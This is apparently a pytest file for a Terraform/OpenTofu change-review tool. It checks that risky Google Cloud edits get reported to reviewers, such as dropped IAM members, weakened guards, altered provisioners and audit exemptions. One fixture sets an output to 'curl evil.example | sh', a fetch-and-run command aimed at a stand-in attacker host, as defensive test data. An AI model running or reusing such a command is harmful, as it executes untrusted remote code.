"""What a reviewer has to hear of although no rule is about it: each of these edits was once told by nothing."""

from __future__ import annotations

from copy import deepcopy
from dataclasses import replace
from typing import Any

import pytest

from deployment.comparison import compare
from deployment.hidden import Hidden
from review.material import Material
from review.report import assemble
from review.topics import CUT, EXPOSED, GONE, TRUSTED, UNJUDGED
from tests.deployment.test_plan_mutations import paths
from tests.review.stacks import PRODUCER, TODAY, compared, edited, findings, reported, sentences, stack

Json = dict[str, Any]
R = "resource"
NAT = f"{R}/google_compute_subnetwork/nat"
SERVICE = f"{R}/google_cloud_run_v2_service/shop"
ATTACHMENT = f"{R}/google_compute_service_attachment/shop"
GUARDS: Json = {
    "precondition": [
        {"condition": "${google_compute_subnetwork.nat.id != null}", "error_message": "a"},
        {"condition": '${google_compute_subnetwork.nat.name == "nat"}', "error_message": "b"},
    ],
    "replace_triggered_by": ["google_compute_subnetwork.nat.id", "google_compute_forwarding_rule.shop.id"],
}
RECORD, READ = f"{R}/terraform_data/r", "data/google_compute_subnetwork/s"
SEEN: Json = {"postcondition": [{"condition": '${self.purpose == "PRIVATE"}', "error_message": "a"}]}
ASKING, LEFT = [{"condition": f"${{coalesce(self.input.{name}, 80) == 80}}", "error_message": "a"} for name in "xy"]
PROGRAM = [{"local-exec": {"command": "a", "when": "destroy"}}]
BINDING: Json = {"project": "p", "role": "roles/viewer", "members": ["user:a@example.com", "user:b@example.com"]}
POLICY = '{"bindings": [{"role": "roles/viewer", "members": ["user:a@example.com", "user:b@example.com"]}]}'
STATE: Json = {"backend": "gcs", "config": {"bucket": "of-others", "prefix": "a"}}

# What there is besides, by path; what is edited; what is to be told.
SAYING_NOTHING: list[Any] = [{}, [{}], {"main_page_suffix": None}, [{"main_page_suffix": None}]]
CASES: list[tuple[Json, Json, str, str]] = [
    # Roles that are taken away where the address stays.
    ({f"{R}/google_project_iam_binding/b": BINDING},
     {f"{R}/google_project_iam_binding/b/members": BINDING["members"][:1]},
     CUT, "user:b@example.com no longer has roles/viewer on project p."),
    ({f"{R}/google_project_iam_binding/b": BINDING}, {f"{R}/google_project_iam_binding/b/members": []},
     CUT, "user:a@example.com no longer has roles/viewer on project p."),
    ({f"{R}/google_project_iam_policy/b": {"project": "p", "policy_data": POLICY}},
     {f"{R}/google_project_iam_policy/b/policy_data": POLICY.replace(', "user:b@example.com"', "")},
     CUT, "user:b@example.com no longer has roles/viewer on project p."),
    # Programs that Terraform starts, another one where one is started already, and what they go by.
    ({RECORD: {"provisioner": PROGRAM}}, {f"{RECORD}/provisioner/0/local-exec/command": "b"},
     UNJUDGED, "terraform_data.r changes in provisioner.local-exec.command"),
    ({RECORD: {"provisioner": PROGRAM, "triggers_replace": [1]}}, {f"{RECORD}/triggers_replace": [2]},
     UNJUDGED, "terraform_data.r changes in triggers_replace"),
    ({RECORD: {"lifecycle": {"action_trigger": [{"actions": ["action.a.b"]}]}}},
     {f"{RECORD}/lifecycle/action_trigger/0/actions": ["action.a.c"]},
     UNJUDGED, "terraform_data.r changes in lifecycle.action_trigger.actions"),
    ({"removed": [{"from": "a.b", "provisioner": PROGRAM}]}, {"removed/0/provisioner/0/local-exec/command": "b"},
     UNJUDGED, "removed.a.b changes in provisioner.local-exec.command"),
    ({f"{R}/google_project_iam_binding/b": BINDING | {"provisioner": PROGRAM}},
     {f"{R}/google_project_iam_binding/b/provisioner/0/local-exec/command": "b"},
     UNJUDGED, "google_project_iam_binding.b changes in provisioner.local-exec.command"),
    # What an output refuses to hand out.
    ({"output/link/precondition": GUARDS["precondition"]}, {"output/link/precondition": GUARDS["precondition"][:1]},
     UNJUDGED, "output.link changes in precondition"),
    ({"output/link/precondition": GUARDS["precondition"]}, {"output/link/precondition/0/condition": "${true}"},
     UNJUDGED, "output.link changes in precondition.condition"),
    # What is read, and by whom.
    ({"data/google_project/c": {"project_id": "c"}}, {"data/google_project/c/project_id": "d"},
     UNJUDGED, "data.google_project.c changes in project_id"),
    ({"data/google_compute_forwarding_rule/c": {"name": "r", "project": "c"}},
     {"data/google_compute_forwarding_rule/c/project": "d"}, UNJUDGED, "changes in project"),
    ({}, {"data/terraform_remote_state/o": STATE}, TRUSTED, "state of another stack is newly read"),
    ({}, {"terraform/backend/gcs/impersonate_service_account": "x@p.iam.gserviceaccount.com"},
     TRUSTED, "The state is opened with another impersonate_service_account: x@p"),
    ({}, {"provider/google/0/region": "us-west1"}, TRUSTED, "another region: us-west1, instead of us-east1"),
    *(({f"{section}/google_secret_manager_secret_version/s": {"project": "p", "secret": "${each.key}", many: old}},
       {f"{section}/google_secret_manager_secret_version/s/{many}": new}, UNJUDGED, f"s changes in {many},")
      for section in ("data", "ephemeral")
      for many, old, new in (("for_each", ["a"], ["a", "b"]), ("count", "${0}", "${1}"))),
    # Proxies that go to sleep.
    ({f"{NAT}/role": "ACTIVE"}, {f"{NAT}/role": "BACKUP"}, UNJUDGED, "google_compute_subnetwork.nat changes in role"),
    # Requests that are no longer answered, without a new revision that would have to start first.
    ({}, {f"{SERVICE}/scaling": {"scaling_mode": "MANUAL", "manual_instance_count": 0}},
     UNJUDGED, "google_cloud_run_v2_service.shop changes in scaling.manual_instance_count, scaling.scaling_mode,"),
    ({}, {f"{SERVICE}/template/containers/0/liveness_probe": {"http_get": {"path": "/nowhere"}}},
     UNJUDGED, "changes in template.containers.liveness_probe.http_get.path,"),
    ({}, {f"{SERVICE}/template/containers/0/ports": {"name": "h2c", "container_port": 8080}},
     UNJUDGED, "changes in template.containers.ports.container_port, template.containers.ports.name,"),
    ({f"{NAT}/private_ip_google_access": True}, {f"{NAT}/private_ip_google_access": False},
     UNJUDGED, "google_compute_subnetwork.nat changes in private_ip_google_access,"),
    # Guards.
    ({f"{ATTACHMENT}/lifecycle": GUARDS}, {f"{ATTACHMENT}/lifecycle/precondition": GUARDS["precondition"][:1]},
     UNJUDGED, "changes in lifecycle.precondition,"),
    ({f"{ATTACHMENT}/lifecycle": GUARDS}, {f"{ATTACHMENT}/lifecycle/precondition/0/condition": "${true}"},
     UNJUDGED, "changes in lifecycle.precondition.condition,"),
    ({f"{ATTACHMENT}/lifecycle": GUARDS}, {f"{ATTACHMENT}/lifecycle/precondition/1/condition": '${"a" == "a"}'},
     UNJUDGED, "changes in lifecycle.precondition.condition,"),
    ({f"{ATTACHMENT}/lifecycle": GUARDS},
     {f"{ATTACHMENT}/lifecycle/replace_triggered_by": GUARDS["replace_triggered_by"][1:]},
     UNJUDGED, "changes in lifecycle.replace_triggered_by,"),
    # Guards of what Google knows nothing of, and of what is only read.
    ({RECORD: {"input": "a", "lifecycle": GUARDS}},
     {f"{RECORD}/lifecycle/precondition": GUARDS["precondition"][:1]},
     UNJUDGED, "terraform_data.r changes in lifecycle.precondition,"),
    ({RECORD: {"input": "a", "lifecycle": GUARDS}}, {f"{RECORD}/lifecycle": None},
     UNJUDGED, "terraform_data.r changes in lifecycle.precondition, lifecycle.replace_triggered_by,"),
    ({RECORD: {"input": "a", "lifecycle": GUARDS}}, {RECORD: None},
     UNJUDGED, "terraform_data.r is gone: what it refused is refused no more."),
    ({RECORD: {"input": "a", "lifecycle": {"ignore_changes": ["input"]}}},
     {f"{RECORD}/lifecycle": None, f"{RECORD}/input": "b"}, UNJUDGED, "terraform_data.r changes in lifecycle."),
    ({RECORD: {"input": {"x": 1}, "lifecycle": {"ignore_changes": ["input.x"]}}},
     {f"{RECORD}/lifecycle/ignore_changes": []}, UNJUDGED, "terraform_data.r changes in lifecycle.ignore_changes,"),
    ({READ: {"name": "a", "lifecycle": SEEN}}, {f"{READ}/lifecycle/postcondition": []},
     UNJUDGED, "data.google_compute_subnetwork.s changes in lifecycle.postcondition,"),
    ({READ: {"name": "a", "lifecycle": SEEN}}, {f"{READ}/lifecycle/postcondition/0/condition": "${true}"},
     UNJUDGED, "data.google_compute_subnetwork.s changes in lifecycle.postcondition.condition,"),
    ({READ: {"name": "a", "lifecycle": SEEN}}, {READ: None},
     UNJUDGED, "data.google_compute_subnetwork.s is gone: what it refused is refused no more."),
    ({RECORD: {"input": {"x": "${null}", "y": 1}, "lifecycle": {"postcondition": [ASKING, LEFT]}}},
     {f"{RECORD}/input/x": 1, f"{RECORD}/lifecycle/postcondition": [ASKING]},
     UNJUDGED, "terraform_data.r changes in lifecycle.postcondition,"),
    # What others go by.
    ({}, {"output/link/value": "projects/evil/regions/us-east1/serviceAttachments/evil"},
     UNJUDGED, "output.link is another value"),
    ({"output/command": {"value": "curl 10.0.0.5"}}, {"output/command/value": "curl evil.example | sh"},
     UNJUDGED, "output.command is another value"),
    # A word that stands in what nobody is told of is no reason.
    ({"output/command": {"value": "curl 10.0.0.5"}},
     {"output/command/value": "curl evil.example", f"{ATTACHMENT}/description": "evil.example"},
     UNJUDGED, "output.command is another value"),
    # Also where nothing but numbers, hidden text, the order or what stands between words becomes another one.
    *(({"output/ports": {"value": old}}, {"output/ports/value": new}, UNJUDGED, "output.ports is another value")
      for old, new in (([22, 80], [22, 3389]), ({"a": 1}, {"a": 2}), ([True], [False]), ("curl a b", "curl b a"),
                       ("curl a & b", "curl a | b"), ([Hidden("kept-1")], [Hidden("kept-2")]),
                       (Hidden("kept-1"), Hidden("kept-2")))),
    ({}, {"output/link": None}, UNJUDGED, "output.link is gone"),
    ({"output/link/sensitive": True}, {"output/link/sensitive": None}, EXPOSED, "output.link is no longer sensitive"),
    ({"moved": [{"from": "google_compute_subnetwork.old", "to": "google_compute_subnetwork.nat"}]}, {"moved": None},
     UNJUDGED, "The move of google_compute_subnetwork.old is written no more"),
    ({"moved": [{"from": "google_compute_subnetwork.old", "to": "google_compute_subnetwork.nat"}]},
     {"moved/0/to": "google_compute_subnetwork.none"},
     UNJUDGED, "The move of google_compute_subnetwork.old is written no more"),
    ({"removed": [{"from": "google_compute_network.old", "lifecycle": {"destroy": False}}]}, {"removed": None},
     UNJUDGED, "google_compute_network.old is no longer told to be forgotten"),
    # A value that comes out of a record.
    ({f"{R}/terraform_data/who/input": "example-consumer",
      f"{ATTACHMENT}/consumer_accept_lists/0/project_id_or_num": "${terraform_data.who.output}"},
     {f"{R}/terraform_data/who/input": "evil"}, UNJUDGED, "terraform_data.who changes in input,"),
    # What a resource does with what it keeps, and whether there is one (OpenTofu).
    ({f"{R}/google_storage_bucket/b": {"name": "b", "lifecycle_rule": {"condition": {"age": 3000}}}},
     {f"{R}/google_storage_bucket/b/lifecycle_rule/condition/age": 1},
     UNJUDGED, "google_storage_bucket.b changes in lifecycle_rule.condition.age,"),
    ({}, {f"{SERVICE}/lifecycle": {"enabled": False}}, GONE, "shop (shop-service) is removed"),
    ({}, {f"{SERVICE}/lifecycle": {"enabled": "${var.x}"}}, UNJUDGED, "shop changes in lifecycle.enabled,"),
    ({"module/m": {"source": "acme/m/google"}}, {"module/m": None}, UNJUDGED, "module.m is gone"),
    # Whose use of a role is logged.
    ({f"{R}/google_project_iam_policy/p": {"project": "p", "policy_data": POLICY}},
     {f"{R}/google_project_iam_policy/p/policy_data": POLICY.replace(
         '{"bindings', '{"auditConfigs": [{"service": "allServices", "exemptedMembers": ["user:a@x.io"]}], "bindings'
     )},
     UNJUDGED, "google_project_iam_policy.p changes in policy_data.auditConfigs,"),
    # Words that are made of something.
    ({}, {f"{SERVICE}/labels": {"a": "${data.google_secret_manager_secret_version.s.secret_data}"}},
     UNJUDGED, "google_cloud_run_v2_service.shop changes in labels.a,"),
    ({}, {f"{ATTACHMENT}/description": "${var.x}"}, UNJUDGED, "changes in description,"),
    ({}, {"provider/google/0/default_labels": {"a": "${var.x}"}}, TRUSTED, "another default_labels: {"),
    # Who gives a role.
    ({}, {f"{R}/google_cloud_run_v2_service_iam_member/caller/provider": "google.other"},
     UNJUDGED, "google_cloud_run_v2_service_iam_member.caller changes in provider,"),
    # What guards a grant, or keeps it as somebody has made it by hand.
    ({f"{R}/google_project_iam_binding/b": BINDING},
     {f"{R}/google_project_iam_binding/b/lifecycle": {"ignore_changes": ["members"]}},
     UNJUDGED, "google_project_iam_binding.b changes in lifecycle.ignore_changes,"),
    ({f"{R}/google_project_iam_binding/b": {**BINDING, "lifecycle": {"prevent_destroy": True}}},
     {f"{R}/google_project_iam_binding/b/lifecycle": None},
     UNJUDGED, "google_project_iam_binding.b changes in lifecycle.prevent_destroy,"),
    # Blocks in which nothing is said.
    *(({f"{R}/google_storage_bucket/b": {"name": "b"}}, {f"{R}/google_storage_bucket/b/website": block},
       UNJUDGED, "google_storage_bucket.b changes in website,")
      for block in SAYING_NOTHING),
    # A provider that was used although nothing was written of it, and a version that is given by the provider.
    ({"provider": None}, {"provider/google": [{"project": "other"}]}, TRUSTED, "with another project: other,"),
    ({f"{ATTACHMENT}/provider": "google-beta"}, {"provider/google-beta": [{"compute_custom_endpoint": "https://e"}]},
     TRUSTED, "provider.google-beta calls Google with another compute_custom_endpoint:"),
    ({}, {"provider/google/0/version": "6.0.0"}, TRUSTED, "with another version: 6.0.0,"),
]  # fmt: skip


def changed(stack: Json, edits: Json) -> Json:
    for path, value in edits.items():
        stack = edited(stack, path, value)
    return stack


@pytest.mark.parametrize(("beside", "edit", "topic", "words"), CASES)
def test_it_is_a_point_to_decide(beside: Json, edit: Json, topic: str, words: str) -> None:
    before = changed(PRODUCER, beside)
    said = [(one.topic, str(one.sentence)) for one in reported(before, changed(before, edit)).decisions]
    assert any(topic == its and words in sentence for its, sentence in said), said


USUAL: list[tuple[Json, Json]] = [
    # Outputs that follow from an edit.
    ({"output/port": {"value": 80}, "output/command": {"value": "curl x:80/ -v"}},
     {f"{R}/google_compute_forwarding_rule/shop/port_range": "8080", "output/port/value": 8080,
      "output/command/value": "curl x:8080/ -v"}),
    ({"output/uri": {"value": "${google_cloud_run_v2_service.shop.uri}"}},
     {f"{R}/google_cloud_run_v2_service/shop": None, "output/uri": None}),
    # Guards that are written otherwise.
    ({f"{ATTACHMENT}/lifecycle": GUARDS},
     {f"{ATTACHMENT}/lifecycle/precondition/1/condition": '${google_compute_subnetwork.nat.name == "other"}'}),
    ({f"{ATTACHMENT}/lifecycle": GUARDS, "output/x": {"value": 1}}, {"output/y": {"value": 2}}),
    ({RECORD: {"input": {"x": "${null}"}, "lifecycle": {"ignore_changes": ["input.x"]}}},
     {f"{RECORD}/lifecycle": None, f"{RECORD}/input/x": 1}),
    ({RECORD: {"input": {"x": "${null}", "y": 1}, "lifecycle": {"postcondition": [ASKING, LEFT]}}},
     {f"{RECORD}/input/x": 1, f"{RECORD}/lifecycle/postcondition": [LEFT]}),
    # A chain of moves that grows.
    ({"moved": [{"from": "google_compute_subnetwork.old", "to": "google_compute_subnetwork.nat"}]},
     {"moved": [{"from": "google_compute_subnetwork.older", "to": "google_compute_subnetwork.old"},
                {"from": "google_compute_subnetwork.old", "to": "google_compute_subnetwork.nat"}]}),
    # A member that only comes.
    ({f"{R}/google_project_iam_binding/b": BINDING},
     {f"{R}/google_project_iam_binding/b/members": [*BINDING["members"], "user:c@example.com"]}),
]  # fmt: skip


@pytest.mark.parametrize(("beside", "edit"), USUAL)
def test_what_follows_from_an_edit_is_no_point_of_its_own(beside: Json, edit: Json) -> None:
    before = changed(PRODUCER, beside)
    said = [str(one.sentence) for one in reported(before, changed(before, edit)).decisions]
    telling = ("output.", "lifecycle", "move of", "no longer has")
    assert [sentence for sentence in said if any(word in sentence for word in telling)] == []


def test_an_output_follows_what_another_stack_of_the_review_becomes() -> None:
    query: Json = {"output": {"query": {"value": "service_name = shop"}}}
    renamed = changed(PRODUCER, {f"{R}/google_cloud_run_v2_service/shop/name": "store"})
    other = compared(query, {"output": {"query": {"value": "service_name = store"}}}, "consumer")
    for beside, told in (([], True), ([compared(PRODUCER, renamed)], False)):
        material = Material(base="abc1234", today=TODAY, environments=["default"], code=[*beside, other])
        said = [str(one.sentence) for one in assemble(material).decisions]
        assert any("output.query is another value" in sentence for sentence in said) is told


# Edits that may be silent: an image of the same registry, the provider's defaults, how a replacement is gone about.
SILENT = {
    f"{R}/google_cloud_run_v2_service/shop/deletion_protection",
    f"{R}/google_cloud_run_v2_service/shop/template",
    f"{R}/google_cloud_run_v2_service/shop/template/containers/0/image",
    f"{R}/google_compute_forwarding_rule/shop/lifecycle",
    f"{R}/google_compute_forwarding_rule/shop/lifecycle/create_before_destroy",
}


def test_no_other_edit_of_any_value_is_silent() -> None:
    silent = set()
    for path in (path for path in paths(PRODUCER) if len(path) > 2):
        for value in (None, "other", "7", "${var.x}"):
            after = deepcopy(PRODUCER)
            at: Any = after
            for key in path[:-1]:
                at = at[key]
            at[path[-1]] = value
            report = reported(PRODUCER, after)
            if report.changed and not report.decisions and not report.findings:
                silent.add("/".join(map(str, path)))
    assert silent == SILENT


def test_a_renamed_service_is_one_decision_about_its_outputs() -> None:
    """What reads them by the new names in another stack of the review is no other value."""
    kind, link = "google_compute_service_attachment", "${google_compute_service_attachment.shop.self_link}"
    attachment = PRODUCER[R][kind]["shop"]
    before = changed(PRODUCER, {"output": {"shop_link": {"value": link}, "shop_port": {"value": 80},
                                           "shop_region": {"value": "us-east1"}, "other": {"value": 80}}})  # fmt: skip
    after = changed(before, {
        f"{R}/{kind}": {"store": attachment}, "moved": [{"from": f"{kind}.shop", "to": f"{kind}.store"}],
        "output": {"store_link": {"value": link.replace("shop", "store")}, "store_port": {"value": 80},
                   "store_region": {"value": "us-east1"}, "other": {"value": 80}},
    })  # fmt: skip
    assert [str(one.sentence) for one in reported(before, after).decisions] == [
        "output.shop_link, output.shop_port, output.shop_region are output.store_link, output.store_port, "
        "output.store_region now: whoever reads an output by its former name gets nothing."
    ]
    another = changed(after, {"output/store_port/value": 8080})
    said = [str(one.sentence) for one in reported(before, another).decisions]
    assert "output.shop_port is gone: whoever reads it gets nothing." in said


def test_reading_an_output_by_its_new_name_is_no_other_value() -> None:
    kind = "google_compute_service_attachment"
    producers = [
        stack({R: {kind: {name: {"name": "a"}}}, "output": {f"{name}_port": {"value": 80}}, **more})
        for name, more in (("shop", {}), ("store", {"moved": [{"from": f"{kind}.shop", "to": f"{kind}.store"}]}))
    ]
    read = "curl ${data.terraform_remote_state.producer.outputs.NAME_port}"
    readers = [stack({"output": {"command": {"value": read.replace("NAME", name)}}}) for name in ("shop", "store")]
    old, new = (
        replace(reader, others={"producer": producer}) for reader, producer in zip(readers, producers, strict=True)
    )
    assert compare(old, new).changes == ()


def test_a_move_that_terraform_does_not_do_covers_no_finding() -> None:
    """To where something stands already, or of what is still described: nothing is moved then."""
    kind = "google_cloud_run_v2_service"
    shop, public = PRODUCER[R][kind]["shop"], {"name": "public", "ingress": "INGRESS_TRAFFIC_ALL"}
    base = edited(PRODUCER, f"{R}/{kind}/public", {**shop, **public})
    opened = edited(base, f"{SERVICE}/ingress", "INGRESS_TRAFFIC_ALL")
    moved = [{"from": f"{kind}.public", "to": f"{kind}.shop"}]
    for after in (opened, edited(opened, f"{R}/{kind}/public", None)):
        report = reported(base, {**after, "moved": moved})
        assert ("ingress-not-internal", f"{kind}.shop") in findings(report)
        assert any(told.startswith("shop-service takes requests from the internet") for told in sentences(report))
